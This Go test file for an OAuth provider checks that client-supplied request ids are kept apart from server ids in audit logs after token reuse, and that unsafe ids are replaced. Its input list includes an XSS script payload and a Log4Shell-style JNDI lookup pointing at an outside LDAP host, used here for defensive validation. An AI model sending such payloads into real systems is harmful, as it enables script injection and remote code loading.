package provider_test

import (
	"bytes"
	"log/slog"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"ithildin/provider"
	"ithildin/provider/oauth"
	"ithildin/storage"
	"ithildin/storage/storagetest"
)

// lines are what was logged so far.
type lines struct {
	mu      sync.Mutex
	content bytes.Buffer
}

// Write implements io.Writer.
func (l *lines) Write(b []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.content.Write(b)
}

func (l *lines) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.content.String()
}

// withRequestID refreshes under an id of the client's.
func (f *family) withRequestID(id string) reply {
	body := url.Values{"grant_type": {"refresh_token"}, "refresh_token": {f.token()}}.Encode()
	r, err := http.NewRequestWithContext(f.t.Context(), http.MethodPost, f.server.URL+oauth.PathToken,
		strings.NewReader(body))
	require.NoError(f.t, err)
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Header.Set("X-Request-Id", id)
	r.SetBasicAuth("clinic", secret+"clinic")
	return f.send(r)
}

// A client gives its request the id of somebody else's, so that the audit tells of the two as one.
func TestAttackARequestIDOfAnotherRequest(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, engine storagetest.Engine) {
		f := newFamily(t, engine)
		logged := &lines{}
		f.options = append(f.options, func(o *provider.Options) {
			o.Logger = slog.New(slog.NewJSONHandler(logged, &slog.HandlerOptions{Level: slog.LevelDebug}))
		})
		f.start()
		successor := f.next(f.token())
		f.next(successor)
		const id = "6617aeec-15e2-4d6f-b9bd-53559c358f97#17810"
		got := f.withRequestID(id)
		require.Equal(t, "invalid_grant", got.member("error"))
		require.Equal(t, id, got.header.Get("X-Request-Id"), "the client finds its own id in the header")
		ours := got.member("request_id")
		require.Regexp(t, `^[0-9a-v]{24}$`, ours)

		events, err := f.store.ListEvents(t.Context(), storage.EventFilter{Kind: "refresh_token_reused", Limit: 2})
		require.NoError(t, err)
		require.Len(t, events, 1)
		require.Equal(t, ours, events[0].RequestID)
		require.Equal(t, id, events[0].Details["client_request_id"])
		require.Contains(t, logged.String(), `"request_id":"`+ours+`"`)
		require.Contains(t, logged.String(), `"client_request_id":"`+id+`"`)
	})
}

func TestRequestIDWithUnsafeCharactersIsReplaced(t *testing.T) {
	f := newFamily(t, storagetest.Engines()[0])
	for _, id := range []string{
		"short", strings.Repeat("a", 201), "<script>alert(1)</script>", `quote"quote"quote"quote"`,
		"${jndi:ldap://example.org/a}",
		"twenty characters and blanks", "semicolon;semicolon;semicolon", "кирилиця-кирилиця-кирилиця",
	} {
		got := f.withRequestID(id)
		require.Regexp(t, `^[0-9a-v]{24}$`, got.header.Get("X-Request-Id"), id)
	}
}
